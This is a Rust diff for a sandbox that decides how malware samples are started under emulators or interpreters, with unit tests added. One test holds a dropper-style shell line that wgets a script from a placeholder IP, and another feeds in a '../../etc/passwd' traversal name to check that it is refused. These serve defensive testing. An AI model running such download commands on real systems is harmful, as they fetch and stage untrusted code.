@@ -114,7 +114,10 @@ pub fn plan(
         return Ok(with(&path, &[&path], None));
     }
     if EMULATED.iter().any(|known| known.0 == architecture) {
-        return Ok(with(&path, &[&path], Some(format!("/usr/bin/qemu-{architecture}-static"))));
+        // The guest's kernel knows what a program is for by its header, and goes on to know
+        // it of programs that the sample starts. Only who knows better says it himself.
+        let emulator = wanted.map(|_| format!("/usr/bin/qemu-{architecture}-static"));
+        return Ok(with(&path, &[&path], emulator));
     }
     match INTERPRETERS.iter().find(|known| known.0 == architecture) {
         Some((_, program)) => Ok(with(program.as_bytes(), &[program.as_bytes(), &path], None)),
@@ -167,4 +170,92 @@ fn path_of(analysis: &Analysis, name: &[u8]) -> Vec<u8> {
     let digest = analysis.sha256.to_string();
     let name = if plain { name } else { &digest.as_bytes()[..8] };
     [FOLDER.as_bytes(), b"/", name].concat()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Plan, Unsuitable, plan};
+    use std::time::SystemTime;
+    use ukai_model::{Analysis, Timestamp};
+    use ukai_static::Limits;
+
+    fn analyzed(bytes: &[u8]) -> Analysis {
+        let now = Timestamp::from(SystemTime::UNIX_EPOCH);
+        ukai_static::analyze(bytes, now, &Limits::default(), &mut |_| {})
+    }
+
+    /// A header of ELF and nothing else.
+    fn elf(class: u8, order: u8, kind: u16, machine: u16) -> Vec<u8> {
+        let number = |number: u16| {
+            if order == 1 { number.to_le_bytes() } else { number.to_be_bytes() }
+        };
+        let mut bytes = vec![0x7f, b'E', b'L', b'F', class, order, 1];
+        bytes.resize(16, 0);
+        bytes.extend(number(kind));
+        bytes.extend(number(machine));
+        bytes.extend(if order == 1 { [1, 0, 0, 0] } else { [0, 0, 0, 1] });
+        bytes.resize(if class == 1 { 52 } else { 64 }, 0);
+        bytes
+    }
+
+    fn planned(bytes: &[u8], wanted: Option<&str>) -> Result<Plan, Unsuitable> {
+        plan(&analyzed(bytes), b"bot.x", wanted, &[b"scan".to_vec()])
+    }
+
+    #[test]
+    fn programs_are_started_on_their_processor() {
+        for (class, order, machine, expected) in [
+            (2, 1, 62, "x86-64"),
+            (1, 1, 3, "x86"),
+            (1, 1, 40, "arm"),
+            (1, 2, 40, "armeb"),
+            (2, 1, 183, "aarch64"),
+            (1, 2, 8, "mips"),
+            (1, 1, 8, "mipsel"),
+            (1, 2, 20, "ppc"),
+            (1, 1, 42, "sh4"),
+            (1, 2, 2, "sparc"),
+            (1, 2, 4, "m68k"),
+            (2, 1, 243, "riscv64"),
+            (2, 2, 22, "s390x"),
+        ] {
+            let plan = planned(&elf(class, order, 2, machine), None).expect(expected);
+            assert_eq!(plan.architecture, expected);
+            assert_eq!(plan.program, b"/tmp/bot.x");
+            assert_eq!(plan.arguments, [b"/tmp/bot.x".to_vec(), b"scan".to_vec()]);
+            assert_eq!(plan.emulator, None);
+        }
+        let told = planned(&elf(1, 1, 2, 40), Some("armeb")).expect("as it was told");
+        assert_eq!(told.emulator.as_deref(), Some(&b"/usr/bin/qemu-armeb-static"[..]));
+    }
+
+    #[test]
+    fn scripts_are_given_to_their_interpreter() {
+        let script = b"#!/bin/bash\ncd /tmp || cd /var/run\nwget http://192.0.2.1/x.sh\n";
+        let plan = planned(script, None).expect("a shell script");
+        assert_eq!((plan.architecture.as_str(), plan.program), ("sh", b"/bin/sh".to_vec()));
+        assert_eq!(plan.arguments[1], b"/tmp/bot.x");
+        let python = b"#!/usr/bin/env python3\nimport socket\nprint(socket.gethostname())\n";
+        assert_eq!(planned(python, None).expect("a script").program, b"/usr/bin/python3");
+    }
+
+    #[test]
+    fn what_does_not_run_is_told() {
+        assert!(matches!(planned(b"just some words\n", None), Err(Unsuitable::Kind(_))));
+        let object = planned(&elf(1, 1, 1, 40), None);
+        assert_eq!(object, Err(Unsuitable::ElfKind("relocatable".to_owned())));
+        let tile = planned(&elf(1, 1, 2, 188), None);
+        assert!(matches!(tile, Err(Unsuitable::Architecture(_))), "{tile:?}");
+        assert!(matches!(planned(b"x", Some("vax")), Err(Unsuitable::Architecture(_))));
+    }
+
+    #[test]
+    fn a_name_that_is_a_path_is_not_taken() {
+        for name in [&b"../../etc/passwd"[..], b"..", b"", b"a\0b", &[b'a'; 300]] {
+            let plan = plan(&analyzed(&elf(2, 1, 2, 62)), name, None, &[]).expect("a program");
+            let file = plan.path.strip_prefix(b"/tmp/").expect("in the folder");
+            assert_eq!(file.len(), 8);
+            assert!(file.iter().all(u8::is_ascii_hexdigit));
+        }
+    }
 }
